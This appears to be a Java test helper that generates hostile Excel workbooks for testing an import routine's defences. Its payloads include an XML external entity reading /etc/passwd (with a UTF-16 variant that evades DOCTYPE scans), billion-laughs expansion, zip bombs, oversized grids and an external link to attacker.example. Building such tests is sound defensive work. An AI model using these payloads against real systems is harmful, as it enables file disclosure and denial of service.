package vn.chiso.common.excel;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/**
 * Attack workbooks built in the test with java.util.zip (no binary fixtures): each starts from an honest workbook that
 * an import would accept (header row plus one data row whose second cell is {@link #MARKER}), then one part is rewritten.
 */
public final class HostileWorkbooks {

	/** The text of the data row's second cell; attacks replace it with an entity reference. */
	public static final String MARKER = "GIATRIDANHDAU";

	private static final String MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

	private HostileWorkbooks() {
	}

	/** An honest workbook: the header row, then {@code data} with {@link #MARKER} in its second cell, and a formula cell. */
	public static byte[] honest(List<String> header, List<String> data) {
		try (XSSFWorkbook wb = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			Sheet sheet = wb.createSheet("Sheet1");
			Row h = sheet.createRow(0);
			for (int i = 0; i < header.size(); i++) {
				h.createCell(i).setCellValue(header.get(i));
			}
			Row d = sheet.createRow(1);
			for (int i = 0; i < data.size(); i++) {
				d.createCell(i).setCellValue(i == 1 ? MARKER : data.get(i));
			}
			wb.write(out);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** sharedStrings.xml declares an external entity on /etc/passwd and uses it in place of the marker. */
	public static byte[] externalEntity(byte[] honest) {
		return withDoctype(honest, "<!DOCTYPE sst [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "&e;",
				StandardCharsets.UTF_8);
	}

	/** The same external entity, the shared strings part encoded as UTF-16 (a byte scan for "DOCTYPE" misses it). */
	public static byte[] externalEntityUtf16(byte[] honest) {
		return withDoctype(honest, "<!DOCTYPE sst [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "&e;",
				StandardCharsets.UTF_16);
	}

	/** Billion laughs: ten levels of ten-fold entity expansion (10^9 "lol") in place of the marker. */
	public static byte[] billionLaughs(byte[] honest) {
		StringBuilder dtd = new StringBuilder("<!DOCTYPE sst [<!ENTITY lol0 \"lol\">");
		for (int i = 1; i <= 9; i++) {
			dtd.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
		}
		dtd.append("]>");
		return withDoctype(honest, dtd.toString(), "&lol9;", StandardCharsets.UTF_8);
	}

	/**
	 * A link to another workbook: an external link part with its relationship to a remote file, registered in the
	 * workbook, and a formula reading from it. {@code partName} lets the part hide under another name.
	 */
	public static byte[] externalLink(byte[] honest, String partName) {
		Map<String, byte[]> parts = parts(honest);
		String folder = partName.substring(0, partName.lastIndexOf('/') + 1);
		String file = partName.substring(partName.lastIndexOf('/') + 1);
		parts.put("xl/" + partName, utf8("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
				+ "<externalLink xmlns=\"" + MAIN_NS
				+ "\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
				+ "<externalBook r:id=\"rId1\"><sheetNames><sheetName val=\"Sheet1\"/></sheetNames>"
				+ "<sheetDataSet><sheetData sheetId=\"0\"><row r=\"1\"><cell r=\"A1\" t=\"str\"><v>x</v></cell></row>"
				+ "</sheetData></sheetDataSet></externalBook></externalLink>"));
		parts.put("xl/" + folder + "_rels/" + file + ".rels",
				utf8("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
						+ "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
						+ "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath\""
						+ " Target=\"http://attacker.example/steal.xlsx\" TargetMode=\"External\"/></Relationships>"));
		replace(parts, "xl/_rels/workbook.xml.rels", "</Relationships>",
				"<Relationship Id=\"rId99\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink\""
						+ " Target=\"" + partName + "\"/></Relationships>");
		replace(parts, "xl/workbook.xml", "</sheets>",
				"</sheets><externalReferences><externalReference r:id=\"rId99\"/></externalReferences>");
		replace(parts, "[Content_Types].xml", "</Types>", "<Override PartName=\"/xl/" + partName
				+ "\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml\"/></Types>");
		replace(parts, "xl/worksheets/sheet1.xml", "</row></sheetData>",
				"<c r=\"Z2\"><f>[1]Sheet1!A1</f><v>x</v></c></row></sheetData>");
		return zip(parts, null, null);
	}

	/**
	 * A zip bomb: the sheet holds {@code megabytes} MB of one repeated cell, deflated at the highest level (a few
	 * hundred KB on disk).
	 */
	public static byte[] zipBomb(byte[] honest, int megabytes) {
		Map<String, byte[]> parts = parts(honest);
		parts.remove("xl/worksheets/sheet1.xml");
		byte[] cell = utf8("<c t=\"inlineStr\"><is><t>bom</t></is></c>");
		return zip(parts, "xl/worksheets/sheet1.xml", out -> {
			out.write(utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"" + MAIN_NS
					+ "\"><sheetData><row r=\"1\">"));
			byte[] block = new byte[cell.length * 1000];
			for (int i = 0; i < 1000; i++) {
				System.arraycopy(cell, 0, block, i * cell.length, cell.length);
			}
			long total = (long) megabytes * 1024 * 1024;
			for (long written = 0; written < total; written += block.length) {
				out.write(block);
			}
			out.write(utf8("</row></sheetData></worksheet>"));
		});
	}

	/** A zip bomb in a part no XML parser reads: {@code megabytes} MB of zeros as an image. */
	public static byte[] zipBombImage(byte[] honest, int megabytes) {
		return zip(parts(honest), "xl/media/image1.png", out -> {
			byte[] block = new byte[1024 * 1024];
			for (int i = 0; i < megabytes; i++) {
				out.write(block);
			}
		});
	}

	/** The sheet claims the whole grid (A1:XFD1048576) and holds {@code rows} more rows after the honest ones. */
	public static byte[] billionCells(byte[] honest, int rows) {
		Map<String, byte[]> parts = parts(honest);
		StringBuilder extra = new StringBuilder();
		for (int r = 3; r < rows + 3; r++) {
			extra.append("<row r=\"").append(r).append("\"><c r=\"A").append(r).append("\"><v>").append(r).append("</v></c></row>");
		}
		String sheet = new String(parts.get("xl/worksheets/sheet1.xml"), StandardCharsets.UTF_8);
		sheet = sheet.replaceFirst("<dimension ref=\"[^\"]*\"/>", "<dimension ref=\"A1:XFD1048576\"/>")
			.replace("</sheetData>", extra + "</sheetData>");
		parts.put("xl/worksheets/sheet1.xml", utf8(sheet));
		return zip(parts, null, null);
	}

	/** One more row, numbered 1048576 (the last row Excel has). */
	public static byte[] lastRow(byte[] honest) {
		Map<String, byte[]> parts = parts(honest);
		replace(parts, "xl/worksheets/sheet1.xml", "</sheetData>",
				"<row r=\"1048576\"><c r=\"A1048576\" t=\"inlineStr\"><is><t>x</t></is></c></row></sheetData>");
		return zip(parts, null, null);
	}

	private static byte[] withDoctype(byte[] honest, String doctype, String reference, Charset charset) {
		Map<String, byte[]> parts = parts(honest);
		String strings = new String(parts.get("xl/sharedStrings.xml"), StandardCharsets.UTF_8);
		int root = strings.indexOf("<sst");
		String body = strings.substring(root).replace(MARKER, reference);
		String declaration = "<?xml version=\"1.0\" encoding=\"" + charset.name() + "\" standalone=\"no\"?>";
		parts.put("xl/sharedStrings.xml", (declaration + doctype + body).getBytes(charset));
		return zip(parts, null, null);
	}

	private static void replace(Map<String, byte[]> parts, String part, String target, String replacement) {
		String xml = new String(parts.get(part), StandardCharsets.UTF_8);
		if (!xml.contains(target)) {
			throw new IllegalStateException(part + " has no " + target + ": " + xml);
		}
		parts.put(part, utf8(xml.replace(target, replacement)));
	}

	private static Map<String, byte[]> parts(byte[] xlsx) {
		Map<String, byte[]> parts = new LinkedHashMap<>();
		try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(xlsx))) {
			ZipEntry entry;
			while ((entry = zip.getNextEntry()) != null) {
				parts.put(entry.getName(), zip.readAllBytes());
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return parts;
	}

	interface PartWriter {

		void write(OutputStream out) throws IOException;

	}

	private static byte[] zip(Map<String, byte[]> parts, String streamedName, PartWriter streamed) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			zip.setLevel(Deflater.BEST_COMPRESSION);
			for (Map.Entry<String, byte[]> part : parts.entrySet()) {
				zip.putNextEntry(new ZipEntry(part.getKey()));
				zip.write(part.getValue());
				zip.closeEntry();
			}
			if (streamed != null) {
				zip.putNextEntry(new ZipEntry(streamedName));
				streamed.write(zip);
				zip.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	private static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

}
